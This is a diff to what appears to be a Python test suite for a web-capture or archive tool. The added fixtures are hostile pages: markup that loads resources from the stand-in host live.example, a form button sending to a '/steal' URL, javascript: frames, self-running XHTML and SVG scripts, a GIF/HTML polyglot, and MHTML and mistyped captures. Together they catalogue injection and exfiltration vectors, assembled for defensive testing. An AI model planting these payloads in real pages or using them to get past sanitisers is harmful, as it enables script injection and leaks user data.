@@ -44,7 +44,23 @@ p{{font-family:x;background:image-set("https://live.example/set" 1x);cursor:url(
 <form method="post" action="/-/logout" id="f"><input name="q"><button formaction="https://live.example/steal">send</button></form>
 <iframe src="javascript:parent.document.title='ran'"></iframe><iframe src="//live.example/frame"></iframe><embed src="//live.example/e">
 <object data="data:text/html,{SCRIPT}"></object><audio src="//live.example/a" autoplay></audio><input type="image" src="//live.example/in">
+<style>@import"https://live.example/d.css";p{{background:u\\72l(https://live.example/esc);filter:url(https://live.example/x.svg#f)}}</style>
+<svg><use href="https://live.example/use.svg#x"/><feImage href="https://live.example/fe"/><rect fill="url(https://live.example/r.svg#a)"/>
+<set attributeName="href" to="https://live.example/set"/></svg><portal src="https://live.example/portal"></portal>
+<fencedframe src="https://live.example/fenced"></fencedframe><img srcset="https://live.example/1 1x, https://live.example/2 2x"
+attributionsrc="https://live.example/attribution"><picture><source srcset="https://live.example/webp"></picture>
+<video poster="https://live.example/poster"><source src="https://live.example/v.mp4"><track src="https://live.example/t.vtt" default></video>
+<a href="/x" ping="https://live.example/ping">ping</a><a href="https://live.example/top" target="_top">top</a>
+<amp-img src="https://live.example/amp"></amp-img><template shadowrootmode="open">{IMAGE}</template><bgsound src="https://live.example/b">
 <table background="//live.example/tb"><tr><td>t</td></tr></table><noscript>{IMAGE}</noscript><template>{IMAGE}</template></body></html>""".encode()
+PLAINTEXT = HARM.replace(b"<body", b"<body><plaintext><body", 1)
+FRAMES = b"<html><frameset cols='1,1' onload=\"document.title='ran'\"><frame src='https://live.example/l'><frame src='javascript:1'></frameset></html>"
+LISTED = (  # XML that asks for a stylesheet of its own, and XHTML that runs
+    b"<?xml version='1.0'?><?xml-stylesheet href='https://live.example/s.xsl' type='text/xsl'?>"
+    b"<html xmlns='http://www.w3.org/1999/xhtml'><head><title>x</title></head><body><script>document.title='ran'</script></body></html>"
+)
+BROKEN = b"<table><b><p><a href='https://live.example/x'><table><td><style>*{x:url(https://live.example/y" + HARM + b"<!-- <svg><![CDATA["
+ARCHIVED = b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n" + HARM
 VECTOR = b"<svg xmlns='http://www.w3.org/2000/svg' onload=\"document.title='ran'\"><script>document.title='ran'</script><image href='https://live.example/v'/></svg>"
 BOMB = gzip.compress(b"<p>boom</p>" + b" " * 60_000_000)
 INJECTED = (
@@ -87,6 +103,14 @@ def captures() -> list[Seen]:
         Seen("moved", "https://harm.example/moved", 26, status=302, body=b"", headers=INJECTED, source="=harm"),
         Seen("script-link", "https://harm.example/jump", 27, status=301, body=b"", headers=(("Location", "javascript:document.title='ran'"),), source="=harm"),
         Seen("lies", "https://harm.example/lies", 28, body=HARM, content_type="image/png", source="=harm", role="image"),
+        Seen("plaintext", "https://harm.example/plaintext", 30, body=PLAINTEXT, source="=harm"),
+        Seen("frames", "https://harm.example/frames", 31, body=FRAMES, source="=harm"),
+        Seen("xhtml", "https://harm.example/xhtml", 32, body=LISTED, content_type="application/xhtml+xml", source="=harm"),
+        Seen("xml", "https://harm.example/xml", 33, body=LISTED, content_type="application/xml", source="=harm"),
+        Seen("broken", "https://harm.example/broken", 34, body=BROKEN, source="=harm"),
+        Seen("mhtml", "https://harm.example/mhtml", 35, body=ARCHIVED, content_type="multipart/related", source="=harm"),
+        Seen("gifar", "https://harm.example/gifar", 36, body=b"GIF89a/*" + HARM, content_type="image/gif", source="=harm", role="image"),
+        Seen("untyped", "https://harm.example/untyped", 37, body=HARM, content_type="", source="=harm"),
         Seen("silent", "https://harm.example/silent", 29, source="=harm", problem=f"{SCRIPT}{OVER}"),
     ]  # fmt: skip
 
